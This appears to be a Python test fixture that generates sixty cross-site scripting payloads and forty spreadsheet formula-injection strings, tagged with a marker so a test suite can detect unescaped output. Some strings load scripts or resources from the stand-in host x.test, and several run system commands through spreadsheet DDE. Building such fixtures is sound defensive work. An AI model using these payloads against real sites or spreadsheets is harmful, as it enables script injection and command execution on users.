"""What people and banks might write into a text: sixty that a browser, forty that a spreadsheet would carry out."""

MARK = "zqx"
"""Stands in each of the sixty, so that it is found wherever it comes out."""

_RUN = f"alert({MARK!r})".replace("'", "")
_TAGS = (
    "<script>{run}</script>", "<ScRiPt>{run}</sCrIpT>", "<script src=//x.test/{mark}></script>",
    "<img src=x onerror={run}>",
    "<img/src=x/onerror={run}>", "<svg onload={run}>", "<svg/onload={run}>", "<svg><script>{run}</script></svg>",
    "<body onload={run}>", "<iframe src=javascript:{run}>", "<iframe srcdoc='<script>{run}</script>'>",
    "<a href=javascript:{run}>{mark}</a>", "<a href='java\tscript:{run}'>{mark}</a>", "<object data=javascript:{run}>",
    "<embed src=javascript:{run}>", "<form action=javascript:{run}><input type=submit>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>", "<textarea autofocus onfocus={run}>", "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>", "<details open ontoggle={run}>", "<marquee onstart={run}>",
    "<base href=//x.test/{mark}/>",
    "<link rel=stylesheet href=//x.test/{mark}>", "<style>*{{background:url(//x.test/{mark})}}</style>",
    "<meta http-equiv=refresh content='0;url=//x.test/{mark}'>", "<math><mtext><script>{run}</script></math>",
    "<table background=//x.test/{mark}>", "<div style='background:url(//x.test/{mark})'>",
    "<isindex action=javascript:{run}>",
    "<template><script>{run}</script></template>", "<noscript><p title='</noscript><script>{run}</script>'>",
    "<!--><script>{run}</script>-->", "<![CDATA[<script>{run}</script>]]>", "<?xml {mark}?><script>{run}</script>",
)  # fmt: skip
_BREAKS = (
    '"><script>{run}</script>', "'><script>{run}</script>", "</textarea><script>{run}</script>",
    "</title><script>{run}</script>", "</option></select><script>{run}</script>",
    "</td></tr></table><script>{run}</script>",
    '" onmouseover="{run}', "' onmouseover='{run}", "` onmouseover=`{run}", '" autofocus onfocus="{run}" x="',
    '" hx-get="//x.test/{mark}', '" hx-on:click="{run}', '" style="width:9999px" x="{mark}', "javascript:{run}//{mark}",
    "data:text/html,<script>{run}</script>", "vbscript:{run}", "--><script>{run}</script>",
    "</script><script>{run}</script>",
    "&lt;script&gt;{run}&lt;/script&gt;", "&#60;script&#62;{run}", "%3Cscript%3E{run}", "\\u003cscript\\u003e{run}",
    "{{{{ 7|add:7 }}}}{mark}", "{{% load static %}}{mark}",
)  # fmt: skip
SCRIPTS = tuple(text.format(run=_RUN, mark=MARK) for text in _TAGS + _BREAKS)

_SIGNS = ("=", "+", "-", "@", "\t=", " =", "\u00a0=", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u3000=")
_CALLS = ('HYPERLINK("//x.test";"{n}")', "cmd|' /C calc'!A{n}", "SUM(1+{n})*cmd|' /C x'!A0")
_ALL = [sign + call for call in _CALLS for sign in _SIGNS]
FORMULAS = (
    *(text.format(n=n) for n, text in enumerate(_ALL)),
    "=1+1+cmd", "+62-811-0000", "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0",
)  # fmt: skip
